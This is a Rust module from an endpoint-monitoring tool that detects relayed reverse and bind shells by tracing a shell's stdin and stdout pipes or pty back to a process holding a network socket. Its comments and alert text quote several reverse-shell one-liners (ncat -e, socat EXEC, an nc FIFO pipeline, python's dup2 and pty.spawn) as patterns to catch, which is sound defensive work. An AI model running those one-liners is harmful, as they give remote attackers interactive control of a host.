//! stdio_hijack, shape `relayed_shell`: the reverse and bind shells most used in the
//! wild keep the socket out of the shell. `ncat -e /bin/sh`, `socat TCP:h:p
//! EXEC:sh,pty`, `cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f` and their listening
//! variants give the shell pipes, a FIFO or a pseudo-terminal as stdin and stdout, and
//! a relay process copies between those and a network socket. Seen from the shell
//! alone that is any pipeline; the fd model knows who holds the other ends.
//!
//! The shape: a shell or interpreter reading its commands from stdin, whose stdin and
//! stdout are pipes, FIFOs or a pty slave, where every process holding their other
//! ends (the write end of stdin, the read end of stdout, the pty master) holds a
//! connected or accepted network socket, or is fed by one that does through one more
//! pipe or FIFO (the `cat /tmp/f |` of the FIFO idiom). Relays that do this by design
//! (sshd, container shims, ...) are built in; the allow rules add more. A terminal
//! emulator or multiplexer holds no network socket, so it never matches.
//!
//! The relay often connects after the shell started (the FIFO idiom starts all three
//! at once), so a shell that does not match at its exec is looked at again, for a
//! while, whenever a process connects, accepts, opens or receives something.
use rustc_hash::FxHashSet as HashSet;

use fdwatch_common::Kind;

use super::{
    alert::{Alert, AlertKind, Evidence, Severity},
    allow::{DEFAULT_RELAYS, Rule},
    explain,
    outbox::{Key, Outbox},
    shells,
    stdio::{self, Stdio},
};
use crate::{
    clock::Clock,
    decode::{Body, Event},
    model::{Access, FdEntry, InodeKey, Model, Object, ObjectId, ObjectKind, Pid},
    value::Value,
};

/// The variant of stdio_hijack keys for this shape (stdio.rs has 0-3).
pub const RELAYED: u8 = 4;
/// How long after its exec a shell is looked at again.
const WATCH_NS: u64 = 10_000_000_000;
/// Shells watched at most (the oldest go first): each is a few lookups per connect.
const MAX_CANDIDATES: usize = 256;

struct Candidate {
    pid: Pid,
    exec: Event,
    until_ns: u64,
}

#[derive(Default)]
pub struct Relays {
    candidates: Vec<Candidate>,
    /// Something connected, accepted, opened or received since the candidates were last
    /// looked at: they are looked at again at the next tick, once for the whole batch of
    /// events (each look walks the relays' fd tables).
    dirty: bool,
}

/// One end of the shell's stdio and who holds its other end.
struct End {
    fd: i32,
    object: ObjectId,
    /// (pid, fd) of each holder of the other end, not the shell.
    holders: Vec<(Pid, i32)>,
}

/// A relay: a process at the other end, and the network socket it (or whoever feeds
/// it) holds.
struct Relay {
    pid: Pid,
    /// The process holding the socket: the relay itself, or the one feeding it.
    source: Pid,
    socket_fd: i32,
    socket: ObjectId,
    /// When `source` is not `pid`: the pipe or FIFO between them, as (fd in pid, object).
    through: Option<(i32, ObjectId)>,
}

fn relayable(o: &Object) -> bool {
    matches!(o.kind, ObjectKind::Pipe) || matches!(o.kind, ObjectKind::Tty { .. }) && o.kind.pty_index().is_some()
}

/// A socket with a network peer (connect(2) or accept(2) set it): AF_INET, AF_INET6.
fn network(o: &Object) -> bool {
    matches!(&o.kind, ObjectKind::Socket { domain, peer: Some(_), .. } if *domain == libc::AF_INET as u16 || *domain == libc::AF_INET6 as u16)
}

/// The other end of the shell's `fd`: a pipe's opposite end, or a pty slave's master.
fn end(model: &Model, shell: Pid, fd: i32) -> Option<End> {
    let (entry, o) = model.fd(shell, fd)?;
    if !relayable(o) {
        return None;
    }
    let (object, want) = match &o.kind {
        ObjectKind::Pipe => (entry.object, Some(if fd == 0 { Access::Write } else { Access::Read })),
        _ => (model.object_by_inode(InodeKey::PtyMaster(o.kind.pty_index()?))?.0, None),
    };
    let holders = model
        .holders(object)
        .into_iter()
        .filter(|(pid, _, e)| *pid != shell && want.is_none_or(|a| e.access == a || e.access == Access::ReadWrite))
        .map(|(pid, fd, _)| (pid, fd))
        .collect();
    Some(End { fd, object: entry.object, holders })
}

/// The first network socket `pid` holds: (fd, object).
fn socket_of(model: &Model, pid: Pid) -> Option<(i32, ObjectId)> {
    let table = model.table_of(pid)?;
    let mut fds: Vec<(i32, ObjectId)> = table
        .fds
        .iter()
        .filter(|(_, e)| model.objects.get(e.object).is_some_and(network))
        .map(|(fd, e)| (fd, e.object))
        .collect();
    fds.sort_unstable();
    fds.first().copied()
}

/// `pid` as a relay: holding a network socket, or reading a pipe or FIFO (not the
/// shell's own) whose writers hold one.
fn relay(model: &Model, pid: Pid, shell: Pid, ends: &HashSet<ObjectId>) -> Option<Relay> {
    if let Some((socket_fd, socket)) = socket_of(model, pid) {
        return Some(Relay { pid, source: pid, socket_fd, socket, through: None });
    }
    let table = model.table_of(pid)?;
    for (fd, e) in table.fds.iter() {
        let Some(o) = model.objects.get(e.object) else { continue };
        if !matches!(o.kind, ObjectKind::Pipe) || e.access != Access::Read || ends.contains(&e.object) {
            continue;
        }
        let writers: Vec<Pid> = model
            .holders(e.object)
            .into_iter()
            .filter(|(p, _, w)| *p != pid && *p != shell && w.access != Access::Read)
            .map(|(p, _, _)| p)
            .collect();
        if writers.is_empty() {
            continue;
        }
        let sources: Vec<(Pid, (i32, ObjectId))> =
            writers.iter().filter_map(|&w| socket_of(model, w).map(|s| (w, s))).collect();
        if sources.len() == writers.len() {
            let (source, (socket_fd, socket)) = sources[0];
            return Some(Relay { pid, source, socket_fd, socket, through: Some((fd, e.object)) });
        }
    }
    None
}

fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// A relay that does this by design: built in, or an allow rule.
fn legitimate(model: &Model, rules: &[Rule], pid: Pid, socket: ObjectId) -> bool {
    let Some(p) = model.process(pid) else { return false };
    let named =
        |name: &str| DEFAULT_RELAYS.iter().any(|r| r.strip_suffix('*').map_or(name == *r, |pre| name.starts_with(pre)));
    named(&p.comm) || p.exe.as_deref().map(basename).is_some_and(named) || {
        let o = model.objects.get(socket);
        stdio::allowed_by(rules, model, pid, o)
    }
}

impl Relays {
    pub fn after(
        &mut self,
        model: &Model,
        clock: &Clock,
        rules: &[Rule],
        outbox: &mut Outbox,
        stdio: &mut Stdio,
        event: &Event,
    ) {
        let pid = event.header.pid;
        match (&event.body, event.kind) {
            (Body::Exec(_), _) => {
                self.candidates.retain(|c| c.pid != pid);
                if self.shell_on_ends(model, pid) {
                    if self.candidates.len() >= MAX_CANDIDATES {
                        self.candidates.remove(0);
                    }
                    let until_ns = event.header.ts_ns.saturating_add(WATCH_NS);
                    let c = Candidate { pid, exec: *event, until_ns };
                    // The relay is usually there already (ncat -e, socat): look now.
                    if !self.check(model, clock, rules, outbox, stdio, &c) {
                        self.candidates.push(c);
                    }
                }
                // An exec may also be a relay's (nc in the FIFO idiom).
                self.dirty = true;
            }
            (Body::Exit(e), _) if e.group_dead != 0 => {
                self.candidates.retain(|c| c.pid != pid);
            }
            (Body::Syscall { ret, .. }, kind) => {
                let connected = kind == Kind::Connect && (*ret == 0 || *ret == -libc::EINPROGRESS as i64);
                let others = *ret >= 0
                    && matches!(
                        kind,
                        Kind::Accept
                            | Kind::Accept4
                            | Kind::Open
                            | Kind::Openat
                            | Kind::Openat2
                            | Kind::Recvmsg
                            | Kind::Recvmmsg
                            | Kind::IoctlPtyPeer
                            | Kind::Dup2
                            | Kind::Dup3
                    );
                if connected || others {
                    self.dirty = true;
                }
            }
            _ => {}
        }
    }

    /// Look at the watched shells again if something happened since the last look.
    pub fn tick(
        &mut self,
        model: &Model,
        clock: &Clock,
        rules: &[Rule],
        outbox: &mut Outbox,
        stdio: &mut Stdio,
        now: u64,
    ) {
        if !std::mem::take(&mut self.dirty) || self.candidates.is_empty() {
            self.candidates.retain(|c| c.until_ns >= now);
            return;
        }
        let mut done = Vec::new();
        for (i, c) in self.candidates.iter().enumerate() {
            if self.check(model, clock, rules, outbox, stdio, c) {
                done.push(i);
            }
        }
        for i in done.into_iter().rev() {
            self.candidates.remove(i);
        }
        self.candidates.retain(|c| c.until_ns >= now);
    }

    /// Whether `pid` is a shell reading commands from stdin with relayable ends on fds 0 and 1.
    fn shell_on_ends(&self, model: &Model, pid: Pid) -> bool {
        let Some(p) = model.process(pid) else { return false };
        shells::is_shell(p)
            && shells::reads_commands_from_stdin(p)
            && [0, 1].iter().all(|&fd| model.fd(pid, fd).is_some_and(|(_, o)| relayable(o)))
    }

    /// Look at one candidate; true when it is settled (raised or allowed).
    fn check(
        &self,
        model: &Model,
        clock: &Clock,
        rules: &[Rule],
        outbox: &mut Outbox,
        stdio: &mut Stdio,
        c: &Candidate,
    ) -> bool {
        let shell = c.pid;
        let (Some(input), Some(output)) = (end(model, shell, 0), end(model, shell, 1)) else { return false };
        if input.holders.is_empty() || output.holders.is_empty() {
            return false;
        }
        let ends: HashSet<ObjectId> = [input.object, output.object].into_iter().collect();
        let mut relays: Vec<Relay> = Vec::new();
        for &(pid, _) in input.holders.iter().chain(&output.holders) {
            if relays.iter().any(|r| r.pid == pid) {
                continue;
            }
            match relay(model, pid, shell, &ends) {
                Some(r) => relays.push(r),
                // Someone at the other end is no relay of a network peer: a pipeline.
                None => return false,
            }
        }
        if relays
            .iter()
            .any(|r| legitimate(model, rules, r.pid, r.socket) || legitimate(model, rules, r.source, r.socket))
            || stdio::allowed_by(rules, model, shell, model.objects.get(relays[0].socket))
        {
            return true;
        }
        let key = Key { kind: AlertKind::StdioHijack, pid: shell, object: relays[0].socket.0, variant: RELAYED };
        if outbox.repeat(key) {
            return true;
        }
        let alert = build(model, clock, stdio, outbox, c, &input, &output, &relays);
        outbox.raise(key, alert, None);
        stdio.note_incident(relays[0].socket, key);
        true
    }
}

#[allow(clippy::too_many_arguments)]
fn build(
    model: &Model,
    clock: &Clock,
    stdio: &mut Stdio,
    outbox: &mut Outbox,
    c: &Candidate,
    input: &End,
    output: &End,
    relays: &[Relay],
) -> Alert {
    let shell = c.pid;
    let process = model.process(shell);
    let comm = process.map_or_else(|| c.exec.comm().into_owned(), |p| p.comm.to_string());
    let first = &relays[0];
    let socket = model.objects.get(first.socket);
    let socket_text = socket.map_or_else(|| "a network socket".to_owned(), explain::object);
    let peer = socket.and_then(|o| match &o.kind {
        ObjectKind::Socket { peer, .. } => peer.as_deref(),
        _ => None,
    });
    let names: Vec<String> = relays.iter().map(|r| explain::who(model, r.pid)).collect();
    let kinds = |e: &End| {
        model
            .fd(shell, e.fd)
            .map_or("?", |(_, o)| if matches!(o.kind, ObjectKind::Pipe) { "a pipe" } else { "a pseudo-terminal" })
    };
    let fed = relays
        .iter()
        .find(|r| r.source != r.pid)
        .map(|r| format!(", fed through another pipe by {}", explain::who(model, r.source)))
        .unwrap_or_default();
    let message = format!(
        "pid {shell} ({comm}) is a shell reading its commands from stdin, and its stdin (fd 0, {}) and stdout (fd 1, \
         {}) lead only to {}{fed}, which holds {socket_text}: whoever is at {} types the commands of this shell and \
         reads their output through the relay, a relayed remote shell (ncat -e, socat EXEC, an nc pipeline through a \
         FIFO, a bind shell); relays that do this by design, like sshd or a container runtime's shim, are built in, \
         others can be allowed with --allow",
        kinds(input),
        kinds(output),
        explain::list(&names),
        peer.unwrap_or("the other end of that socket"),
    );
    let mut stdio_fds = vec![0, 1];
    if model.fd(shell, 2).is_some_and(|(e, _)| e.object == output.object || e.object == input.object) {
        stdio_fds.push(2);
    }
    let relay_value = |r: &Relay| {
        let p = model.process(r.pid);
        Value::Object(vec![
            ("pid", Value::Int(r.pid as i64)),
            ("comm", Value::Str(p.map_or_else(String::new, |p| p.comm.to_string()).into())),
            ("exe", p.and_then(|p| p.exe.as_ref()).map_or(Value::Null, |e| Value::Str(e.to_string().into()))),
            ("socket_pid", Value::Int(r.source as i64)),
            ("socket_fd", Value::Int(r.socket_fd as i64)),
        ])
    };
    let object = model
        .fd(first.source, first.socket_fd)
        .map_or(Value::Null, |(e, o)| crate::model::describe::object(o, e, None));
    let fields = vec![
        ("shape", Value::Str("relayed_shell".into())),
        ("fds", Value::List(stdio_fds.iter().map(|&fd| Value::Int(fd)).collect())),
        ("object", object),
        ("relays", Value::List(relays.iter().map(relay_value).collect())),
    ];
    let mut alert = Alert {
        id: 0,
        kind: AlertKind::StdioHijack,
        severity: Severity::Critical,
        pid: shell,
        comm,
        exe: process.and_then(|p| p.exe.as_ref().map(|e| e.to_string())),
        message,
        evidence: Vec::new(),
        fields,
        ts_ns: c.exec.header.ts_ns,
    };
    alert.evidence.push(Evidence::Event(c.exec));
    for e in [input, output] {
        let Some((entry, o)) = model.fd(shell, e.fd) else { continue };
        let whose = if matches!(o.kind, ObjectKind::Pipe) {
            if e.fd == 0 { "its write end" } else { "its read end" }
        } else {
            "its master"
        };
        let holders: Vec<String> =
            e.holders.iter().map(|&(p, fd)| format!("{} as fd {fd}", explain::who(model, p))).collect();
        let text = format!(
            "fd {} of {} is {}; {whose} is held only by {}",
            e.fd,
            explain::who(model, shell),
            explain::object(o),
            explain::list(&holders)
        );
        alert.evidence.push(Evidence::Fact(fact_now(clock, shell, e.fd, entry, o, text, c.exec.header.ts_ns)));
    }
    for r in relays {
        if let Some((through_fd, _)) = r.through {
            if let Some((entry, o)) = model.fd(r.pid, through_fd) {
                let text = format!(
                    "{} reads {} as fd {through_fd}, written by {}",
                    explain::who(model, r.pid),
                    explain::object(o),
                    explain::who(model, r.source)
                );
                alert.evidence.push(Evidence::Fact(fact_now(
                    clock,
                    r.pid,
                    through_fd,
                    entry,
                    o,
                    text,
                    c.exec.header.ts_ns,
                )));
            }
        }
        if let Some((entry, o)) = model.fd(r.source, r.socket_fd) {
            let text = format!(
                "{} holds {} as fd {}, {}",
                explain::who(model, r.source),
                explain::object(o),
                r.socket_fd,
                explain::story(model, &entry.origin)
            );
            alert.evidence.push(Evidence::Fact(explain::entry_fact(clock, r.source, r.socket_fd, entry, o, text)));
        }
    }
    // A pending alert about the relay's socket (python's `os.dup2(s, 0)` before its
    // `pty.spawn("sh")`) is this incident.
    alert.evidence.extend(stdio.absorb(outbox, first.socket));
    alert.sort_evidence();
    alert
}

/// A fact told as of `ts_ns` (the shell's exec), not of the fd's last step.
fn fact_now(
    clock: &Clock,
    pid: Pid,
    fd: i32,
    entry: &FdEntry,
    o: &Object,
    text: String,
    ts_ns: u64,
) -> super::alert::Fact {
    let mut fact = explain::entry_fact(clock, pid, fd, entry, o, text);
    fact.ts_ns = fact.ts_ns.max(ts_ns);
    fact
}
